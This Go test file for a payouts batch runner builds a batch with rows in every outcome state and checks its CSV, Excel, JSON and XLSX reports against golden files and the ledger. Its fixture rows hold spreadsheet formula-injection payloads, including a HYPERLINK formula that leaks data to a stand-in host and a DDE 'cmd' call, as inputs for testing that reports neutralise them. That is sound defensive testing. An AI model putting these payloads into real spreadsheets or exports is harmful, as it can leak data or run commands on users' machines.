package batch_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"flag"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/xuri/excelize/v2"

	"github.com/payouts/payouts/batch"
	"github.com/payouts/payouts/batch/manifest"
	"github.com/payouts/payouts/batch/report"
	"github.com/payouts/payouts/internal/poll"
	"github.com/payouts/payouts/ledger"
	"github.com/payouts/payouts/pike"
	"github.com/payouts/payouts/pike/sandbox"
)

// update rewrites this package's golden files in testdata instead of
// comparing with them.
var update = flag.Bool("update", false, "rewrite the golden files in testdata")

// reportGoldenDir holds the golden reports (refresh with
// go test ./batch -run TestReport -update).
const reportGoldenDir = "testdata/report"

// reportNow is the fixed timestamp of every report in the goldens.
var reportNow = time.Date(2025, 11, 30, 9, 0, 0, 0, time.UTC)

// ledgerClock is a clock the test moves by hand: every ledger timestamp of
// a phase is the same, so the goldens do not depend on the wall clock.
type ledgerClock struct{ t atomic.Pointer[time.Time] }

func (c *ledgerClock) set(t time.Time) { c.t.Store(&t) }
func (c *ledgerClock) now() time.Time  { return *c.t.Load() }

// postWebhook delivers a webhook signed with Pike's key, as Pike would.
func (h *harness) postWebhook(body []byte) {
	h.t.Helper()
	sig, err := pikeKey.Sign(body)
	if err != nil {
		h.t.Fatal(err)
	}
	req, err := http.NewRequest(http.MethodPost, h.hooks.URL+"/webhooks/pike", bytes.NewReader(body))
	if err != nil {
		h.t.Fatal(err)
	}
	req.Header.Set(pike.HeaderSign, sig)
	req.Header.Set("Content-Type", "application/json")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		h.t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		h.t.Fatalf("webhook: got HTTP %d, want 200", resp.StatusCode)
	}
}

// sessionWebhook is the webhook Pike sends about the session as it stands
// in the sandbox now, optionally altered.
func (h *harness) sessionWebhook(typ pike.WebhookType, sessionID string, alter func(*pike.Session)) []byte {
	h.t.Helper()
	sess, ok := h.sb.Session(sessionID)
	if !ok {
		h.t.Fatalf("sandbox has no session %s", sessionID)
	}
	if alter != nil {
		alter(&sess)
	}
	body, err := pike.MarshalVersion(pike.Webhook{Type: typ, Session: sess}, pike.V1)
	if err != nil {
		h.t.Fatal(err)
	}
	return body
}

func (h *harness) row(batchID, ref string) ledger.Row {
	h.t.Helper()
	r, err := h.db.RowByReference(context.Background(), batchID, ref)
	if err != nil {
		h.t.Fatalf("row %s: %v", ref, err)
	}
	return r
}

// everyOutcome builds, through the real runner and sandbox, a batch with a
// row in every state a finished run can leave behind, recipient names a
// spreadsheet would run as formulas, Cyrillic names and three currencies.
//
// Rows are processed one at a time (Workers 1, one request in flight), so
// the sandbox's session and payout ids follow the manifest order and the
// goldens hold the real ids, not normalised ones.
func everyOutcome(t *testing.T) (*harness, *ledgerClock, string) {
	t.Helper()
	h := newHarness(t, sandbox.Config{}, pike.WithMaxInFlight(1))
	clock := &ledgerClock{}
	clock.set(time.Date(2025, 11, 28, 21, 0, 0, 0, time.UTC))
	h.db.Now = clock.now
	cfg := h.config()
	cfg.Workers = 1
	ctx := context.Background()

	// A reference paid in an earlier batch is skipped in this one.
	h.mustRun(h.manifest("october.csv", row{ref: "PAY-PRIOR", amount: "700", card: sandbox.CardMir, name: "Сергей Морозов"}), cfg)

	clock.set(time.Date(2025, 11, 29, 3, 0, 0, 0, time.UTC))
	main := h.manifest("payroll.csv",
		row{ref: "PAY-01", amount: "1500.50", card: sandbox.CardMir, name: "Иванов Иван Иванович", email: "ivanov@example.com", description: "Зарплата за ноябрь"},
		row{ref: "PAY-02", amount: "2 000,00", card: sandbox.CardVisa, name: `=HYPERLINK("http://evil.example/?leak=1","Click me")`, description: "=cmd|' /C calc'!A0"},
		row{ref: "00303", amount: "300", card: sandbox.CardMastercard, name: "+7 Пётр Сидоров"},
		row{ref: "PAY-04", amount: "99.99", currency: "EUR", card: sandbox.CardVisa, name: "-1 Anna Müller", description: "00777"},
		row{ref: "PAY-05", amount: "45", currency: "USD", card: sandbox.CardMir, name: "@SUM(A1:A9) Bob"},
		row{ref: "PAY-06", amount: "1500", currency: "JPY", card: sandbox.CardVisa, name: "\tTab Leading"},
		row{ref: "=2+5", amount: "10", card: sandbox.CardMastercard, name: "Ольга Павлова; \"кавычки\""},
		row{ref: "PAY-NOCARD", amount: "100", card: sandbox.CardNotExist, name: "Новикова Татьяна"},
		row{ref: "PAY-EXPIRED", amount: "100", card: sandbox.CardExpired, name: "Зайцева Дарья"},
		row{ref: "PAY-MISMATCH", amount: "100", card: sandbox.CardMismatch, name: "Васильев Роман"},
		row{ref: "PAY-ERR", amount: "100", card: sandbox.CardSessionError, name: "Фёдорова Ксения"},
		row{ref: "PAY-PRIOR", amount: "700", card: sandbox.CardMir, name: "Сергей Морозов"},
		row{ref: "PAY-LATER", amount: "250", card: sandbox.CardMir, name: "Орлова Вера"},
		row{ref: "PAY-UNKNOWN", amount: "333.33", card: sandbox.CardVisa, name: "Козлов Артём"},
		row{ref: "PAY-AMOUNT", amount: "400", card: sandbox.CardMir, name: "Лебедев Никита"},
	)
	// 1. Held for approval: card errors found at start and mismatches end
	// now; the rest waits for a person.
	hold := cfg
	hold.Confirm = batch.ConfirmHold
	res := h.mustRun(main, hold)
	id := res.Batch.ID
	// 2. A person rejects the whole batch...
	clock.set(time.Date(2025, 11, 29, 9, 30, 0, 0, time.UTC))
	settle := batch.SettleOptions{Config: cfg, Wait: 20 * time.Second, Intake: h.intake}
	if _, err := batch.Reject(ctx, h.db, h.client, id, settle); err != nil {
		t.Fatal(err)
	}
	// 3. ...and pays most of it again with a rerun of a subset.
	clock.set(time.Date(2025, 11, 29, 10, 0, 0, 0, time.UTC))
	subset := h.manifest("payroll-rerun.csv",
		row{ref: "PAY-01", amount: "1500.50", card: sandbox.CardMir, name: "Иванов Иван Иванович", email: "ivanov@example.com", description: "Зарплата за ноябрь"},
		row{ref: "PAY-02", amount: "2 000,00", card: sandbox.CardVisa, name: `=HYPERLINK("http://evil.example/?leak=1","Click me")`, description: "=cmd|' /C calc'!A0"},
		row{ref: "00303", amount: "300", card: sandbox.CardMastercard, name: "+7 Пётр Сидоров"},
		row{ref: "PAY-04", amount: "99.99", currency: "EUR", card: sandbox.CardVisa, name: "-1 Anna Müller", description: "00777"},
		row{ref: "PAY-05", amount: "45", currency: "USD", card: sandbox.CardMir, name: "@SUM(A1:A9) Bob"},
		row{ref: "PAY-06", amount: "1500", currency: "JPY", card: sandbox.CardVisa, name: "\tTab Leading"},
		row{ref: "PAY-NOCARD", amount: "100", card: sandbox.CardNotExist, name: "Новикова Татьяна"},
		row{ref: "PAY-ERR", amount: "100", card: sandbox.CardSessionError, name: "Фёдорова Ксения"},
		row{ref: "PAY-AMOUNT", amount: "400", card: sandbox.CardMir, name: "Лебедев Никита"},
	)
	if _, _, err := batch.Rerun(ctx, h.db, h.client, batch.RerunOptions{BatchID: id, Manifest: subset, SettleOptions: settle}); err != nil {
		t.Fatal(err)
	}
	// PAY-UNKNOWN alone: its confirm is applied at Pike but the answer is
	// lost, its status calls after the confirm check's fail and its
	// payment_finished webhook is dropped. The rerun gives up waiting with
	// the row unknown.
	h.sb.Inject(sandbox.Rule{Method: pike.MethodConfirm, Reference: "PAY-UNKNOWN", Fault: sandbox.FaultDropAfterApply})
	h.sb.Inject(sandbox.Rule{Method: pike.MethodStatus, Reference: "PAY-UNKNOWN", Fault: sandbox.FaultFailBeforeApply, Times: 1 << 30, Skip: 1})
	h.sb.Inject(sandbox.Rule{Method: string(pike.WebhookPaymentFinished), Reference: "PAY-UNKNOWN", Fault: sandbox.FaultDropWebhook})
	one := h.manifest("payroll-unknown.csv", row{ref: "PAY-UNKNOWN", amount: "333.33", card: sandbox.CardVisa, name: "Козлов Артём"})
	short := settle
	short.Wait = time.Second // the row never resolves: the rerun gives up
	if _, _, err := batch.Rerun(ctx, h.db, h.client, batch.RerunOptions{BatchID: id, Manifest: one, SettleOptions: short}); err != nil {
		t.Fatal(err)
	}
	// On a loaded machine the rerun may give up before the confirm went
	// out; `payouts serve` carries the row on until its outcome is unknown.
	serve(t, h, id, "PAY-UNKNOWN", ledger.StateUnknown)
	// 4. PAY-LATER is planned for a new attempt that was never sent (as
	// after a rerun interrupted before its first call).
	later := h.row(id, "PAY-LATER")
	if _, err := h.db.Apply(ctx, ledger.Change{RowID: later.ID, From: later.State, To: ledger.StatePlanned, Reason: "rerun",
		Rerun: true, Failure: &ledger.Failure{}, Detail: "test: planned, never sent"}); err != nil {
		t.Fatal(err)
	}
	// 5. Pike reports another amount for PAY-AMOUNT's finished payout, and
	// a session none of our batches made.
	h.postWebhook(h.sessionWebhook(pike.WebhookPaymentFinished, h.row(id, "PAY-AMOUNT").SessionID, func(s *pike.Session) {
		s.Payout().AmountDetails.Amount += 100
	}))
	h.postWebhook([]byte(`{"type":"payment_finished","session":{"id":"ps_foreign_77","status":"accepted","payments":[{"id":"po_foreign_77","status":"succeeded","amount_details":{"amount":5000,"currency":"rub"}}]}}`))

	h.expectStates(id, map[string]ledger.State{
		"PAY-01": ledger.StateSucceeded, "PAY-02": ledger.StateSucceeded, "00303": ledger.StateSucceeded,
		"PAY-04": ledger.StateSucceeded, "PAY-05": ledger.StateSucceeded, "PAY-06": ledger.StateSucceeded,
		"=2+5": ledger.StateCancelled, "PAY-NOCARD": ledger.StateFailed, "PAY-EXPIRED": ledger.StateFailed,
		"PAY-MISMATCH": ledger.StateMismatch, "PAY-ERR": ledger.StateReview, "PAY-PRIOR": ledger.StateSkipped,
		"PAY-LATER": ledger.StatePlanned, "PAY-UNKNOWN": ledger.StateUnknown, "PAY-AMOUNT": ledger.StateSucceeded,
	})
	if t.Failed() {
		t.FailNow()
	}
	return h, clock, id
}

// writeReport renders the batch's report with the fixed timestamp.
func writeReport(t *testing.T, h *harness, id string, o report.Options) []byte {
	t.Helper()
	o.Now = func() time.Time { return reportNow }
	var buf bytes.Buffer
	if err := report.Write(context.Background(), h.db, id, &buf, o); err != nil {
		t.Fatalf("report.Write: %v", err)
	}
	return buf.Bytes()
}

// checkGolden compares got, with the test's temporary directory replaced by
// $DIR, with testdata/report/name (rewritten with -update).
func checkGolden(t *testing.T, h *harness, name string, got []byte) {
	t.Helper()
	got = bytes.ReplaceAll(got, []byte(h.dir), []byte("$DIR"))
	path := filepath.Join(reportGoldenDir, name)
	if *update {
		if err := os.MkdirAll(reportGoldenDir, 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run with -update to create it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs (run with -update if intended):\n got:\n%s\nwant:\n%s", path, got, want)
	}
}

func TestReportGolden(t *testing.T) {
	h, clock, id := everyOutcome(t)
	csvOut := writeReport(t, h, id, report.Options{})
	jsonOut := writeReport(t, h, id, report.Options{Format: report.JSON})
	excelOut := writeReport(t, h, id, report.Options{Excel: true})
	checkGolden(t, h, "every-outcome.csv", csvOut)
	checkGolden(t, h, "every-outcome.json", jsonOut)
	checkGolden(t, h, "every-outcome-excel.csv", excelOut)
	h.scanForPANs(csvOut, jsonOut, excelOut)

	t.Run("csv", func(t *testing.T) { checkCSVReport(t, h, id, csvOut, ',', ".") })
	t.Run("excel", func(t *testing.T) {
		if !bytes.HasPrefix(excelOut, []byte("\ufeff")) {
			t.Fatalf("got %q at the start, want the UTF-8 BOM", excelOut[:min(8, len(excelOut))])
		}
		checkCSVReport(t, h, id, bytes.TrimPrefix(excelOut, []byte("\ufeff")), ';', ",")
	})
	t.Run("json", func(t *testing.T) { checkJSONReport(t, h, id, jsonOut) })
	t.Run("xlsx", func(t *testing.T) {
		checkXLSXReport(t, h, id, writeReport(t, h, id, report.Options{Format: report.XLSX}))
	})

	// Late news: Pike's payment_finished for PAY-UNKNOWN finally arrives
	// after the run exited, and `payouts serve` applies it once Pike's own
	// session/status (working again) agrees. The report, regenerated,
	// follows the ledger.
	clock.set(time.Date(2025, 11, 29, 14, 0, 0, 0, time.UTC))
	h.sb.ClearRules()
	unknown := h.row(id, "PAY-UNKNOWN")
	h.postWebhook(h.sessionWebhook(pike.WebhookPaymentFinished, unknown.SessionID, nil))
	serve(t, h, id, "PAY-UNKNOWN", ledger.StateSucceeded)
	after := writeReport(t, h, id, report.Options{})
	checkGolden(t, h, "every-outcome-after-late-webhook.csv", after)
	checkCSVReport(t, h, id, after, ',', ".")
	afterJSON := writeReport(t, h, id, report.Options{Format: report.JSON})
	checkJSONReport(t, h, id, afterJSON)
	var doc report.Document
	if err := json.Unmarshal(afterJSON, &doc); err != nil {
		t.Fatal(err)
	}
	for _, f := range doc.Findings {
		if f.Reference == "PAY-UNKNOWN" {
			t.Errorf("after the late webhook got finding %+v, want none for PAY-UNKNOWN", f)
		}
	}
	h.expectPaid("PAY-PRIOR", "PAY-01", "PAY-02", "00303", "PAY-04", "PAY-05", "PAY-06", "PAY-UNKNOWN", "PAY-AMOUNT")
}

// serve runs batch.Serve until the row ref of the batch reaches state want.
func serve(t *testing.T, h *harness, id, ref string, want ledger.State) {
	t.Helper()
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	done := make(chan error, 1)
	go func() {
		done <- batch.Serve(ctx, h.db, h.client, batch.SettleOptions{Config: h.config(), Intake: h.intake}, 20*time.Millisecond)
	}()
	poll.Until(t, fmt.Sprintf("%s %s under serve", ref, want), func() bool { return h.row(id, ref).State == want })
	cancel()
	if err := <-done; err != nil {
		t.Fatalf("serve: %v", err)
	}
	if got := h.row(id, ref).State; got != want {
		t.Fatalf("after serve got %s %s, want %s", ref, got, want)
	}
}

// dangerous reports whether a spreadsheet would run cell as a formula.
func dangerous(cell string) bool {
	r, _ := utf8.DecodeRuneInString(cell)
	return strings.ContainsRune("=+-@\t\r＝＋－＠", r) && cell != ""
}

// excelConstant matches a cell of the Excel CSV that is one string
// constant, ="…" with quotes doubled; group 1 is the text shown.
var excelConstant = regexp.MustCompile(`^="((?:[^"]|"")*)"$`)

// checkCSVReport checks a CSV report against the ledger: one line per
// ledger row with its values, no cell a spreadsheet would run, and the
// summary sections equal to what the ledger says.
func checkCSVReport(t *testing.T, h *harness, id string, out []byte, comma rune, point string) {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(out))
	r.Comma = comma
	r.FieldsPerRecord = -1
	records, err := r.ReadAll()
	if err != nil {
		t.Fatalf("report is not valid CSV: %v", err)
	}
	if got, want := strings.Join(records[0], ","), strings.Join(report.Columns, ","); got != want {
		t.Fatalf("got header %s, want %s", got, want)
	}
	excel := comma == ';'
	for _, rec := range records {
		for _, cell := range rec {
			// The Excel CSV writes identities as one string constant,
			// ="PAY-01", which a spreadsheet shows as text and never runs.
			if excel && excelConstant.MatchString(cell) {
				continue
			}
			if dangerous(cell) {
				t.Errorf("cell %q would run as a formula", cell)
			}
		}
	}
	// unsafe is the text a spreadsheet shows for a cell.
	unsafe := func(s string) string {
		if m := excelConstant.FindStringSubmatch(s); excel && m != nil {
			return strings.ReplaceAll(m[1], `""`, `"`)
		}
		return strings.TrimPrefix(s, "'")
	}
	i := 1
	summary := map[string]string{}
	for row, err := range h.db.Rows(context.Background(), id) {
		if err != nil {
			t.Fatal(err)
		}
		rec := records[i]
		i++
		want := []string{row.Reference, string(row.State), strings.Replace(manifest.FormatAmount(row.Amount, row.Currency), ".", point, 1), row.Currency,
			row.SessionID, row.Description, row.Email}
		got := []string{unsafe(rec[1]), rec[2], rec[3], rec[4], unsafe(rec[7]), unsafe(rec[14]), unsafe(rec[15])}
		if strings.Join(got, "|") != strings.Join(want, "|") {
			t.Errorf("line of row %d: got %q, want %q", row.Line, got, want)
		}
		if strings.Contains(rec[5], row.CardBIN+"******"+row.CardLast4) == false {
			t.Errorf("row %d: got card %q, want %s******%s", row.Line, rec[5], row.CardBIN, row.CardLast4)
		}
	}
	if len(records) <= i || len(records[i]) != 0 && records[i][0] != "summary" {
		t.Fatalf("got %v after the rows, want the summary section", records[i:min(i+1, len(records))])
	}
	for _, rec := range records[i:] {
		if len(rec) == 5 && rec[0] == "summary" && rec[1] != "currency" {
			summary[rec[1]+" "+rec[2]] = rec[3] + " " + rec[4]
		}
	}
	lines, err := h.db.Summary(context.Background(), id)
	if err != nil {
		t.Fatal(err)
	}
	if len(summary) != len(lines) {
		t.Errorf("got %d summary lines, want %d (ledger)", len(summary), len(lines))
	}
	for _, l := range lines {
		want := strings.Join([]string{strconv.Itoa(l.Count), strings.Replace(manifest.FormatAmount(l.Amount, l.Currency), ".", point, 1)}, " ")
		if got := summary[l.Currency+" "+string(l.State)]; got != want {
			t.Errorf("summary %s %s: got %q, want %q (ledger)", l.Currency, l.State, got, want)
		}
	}
}

// checkXLSXReport reads an XLSX report back and checks its Rows sheet
// against the ledger: references as text, exactly as written; amounts as
// numbers equal to the ledger's; no card number in any cell of any sheet.
func checkXLSXReport(t *testing.T, h *harness, id string, out []byte) {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(out))
	if err != nil {
		t.Fatalf("the report is not a workbook: %v", err)
	}
	defer f.Close()
	var text bytes.Buffer
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		for _, r := range rows {
			text.WriteString(strings.Join(r, "\t") + "\n")
		}
	}
	h.scanForPANs(text.Bytes())
	rows, err := f.GetRows(report.SheetRows, excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	i := 1
	for row, err := range h.db.Rows(context.Background(), id) {
		if err != nil {
			t.Fatal(err)
		}
		if i >= len(rows) {
			t.Fatalf("got %d rows on the Rows sheet, want more", len(rows)-1)
		}
		rec := rows[i]
		i++
		ref, _ := excelize.CoordinatesToCellName(2, i)
		if typ, _ := f.GetCellType(report.SheetRows, ref); typ != excelize.CellTypeInlineString || rec[1] != row.Reference {
			t.Errorf("row %d reference: got %q (type %v), want the text %q", row.Line, rec[1], typ, row.Reference)
		}
		amount, err := strconv.ParseFloat(rec[3], 64)
		want, _ := strconv.ParseFloat(manifest.FormatAmount(row.Amount, row.Currency), 64)
		if err != nil || amount != want {
			t.Errorf("row %d amount: got %q, want the number %v", row.Line, rec[3], want)
		}
		if rec[2] != string(row.State) || rec[6] != row.RecipientName {
			t.Errorf("row %d: got status %q name %q, want %q %q", row.Line, rec[2], rec[6], row.State, row.RecipientName)
		}
	}
	if i != len(rows) {
		t.Errorf("got %d rows on the Rows sheet, want %d", len(rows)-1, i-1)
	}
}

// checkJSONReport decodes a JSON report and checks it against the ledger.
func checkJSONReport(t *testing.T, h *harness, id string, out []byte) {
	t.Helper()
	dec := json.NewDecoder(bytes.NewReader(out))
	dec.DisallowUnknownFields()
	var doc report.Document
	if err := dec.Decode(&doc); err != nil {
		t.Fatalf("report is not a report.Document: %v\n%s", err, out)
	}
	// Every top-level key once: a duplicate key is silently lost by most
	// decoders.
	keys := map[string]int{}
	d := json.NewDecoder(bytes.NewReader(out))
	if _, err := d.Token(); err != nil {
		t.Fatal(err)
	}
	for d.More() {
		k, err := d.Token()
		if err != nil {
			t.Fatal(err)
		}
		keys[k.(string)]++
		var skip json.RawMessage
		if err := d.Decode(&skip); err != nil {
			t.Fatal(err)
		}
	}
	for k, n := range keys {
		if n != 1 {
			t.Errorf("got key %q %d times at the top level, want once", k, n)
		}
	}
	if doc.BatchID != id || doc.GeneratedAt != reportNow.Format(time.RFC3339) {
		t.Errorf("got batch %q generated %q, want %q %q", doc.BatchID, doc.GeneratedAt, id, reportNow.Format(time.RFC3339))
	}
	i := 0
	paid := map[string]int64{}
	for row, err := range h.db.Rows(context.Background(), id) {
		if err != nil {
			t.Fatal(err)
		}
		if i >= len(doc.Rows) {
			t.Fatalf("got %d rows, want more", len(doc.Rows))
		}
		got := doc.Rows[i]
		i++
		// JSON is for machines: no spreadsheet apostrophes.
		if got.Reference != row.Reference || got.RecipientName != row.RecipientName || got.Status != string(row.State) ||
			got.Amount != manifest.FormatAmount(row.Amount, row.Currency) || got.Attempts != row.Attempt || got.PayoutID != row.PayoutID ||
			got.Description != row.Description || got.Email != row.Email {
			t.Errorf("row %d: got %+v, want the ledger's %+v", row.Line, got, row)
		}
		if row.State == ledger.StateSucceeded {
			paid[row.Currency] += row.Amount
		}
	}
	if i != len(doc.Rows) || doc.RowCount != i {
		t.Errorf("got %d rows and row_count %d, want %d", len(doc.Rows), doc.RowCount, i)
	}
	for _, c := range doc.Control {
		if want := manifest.FormatAmount(paid[c.Currency], c.Currency); c.Succeeded != want {
			t.Errorf("control %s: got succeeded %s, want %s (ledger)", c.Currency, c.Succeeded, want)
		}
	}
}
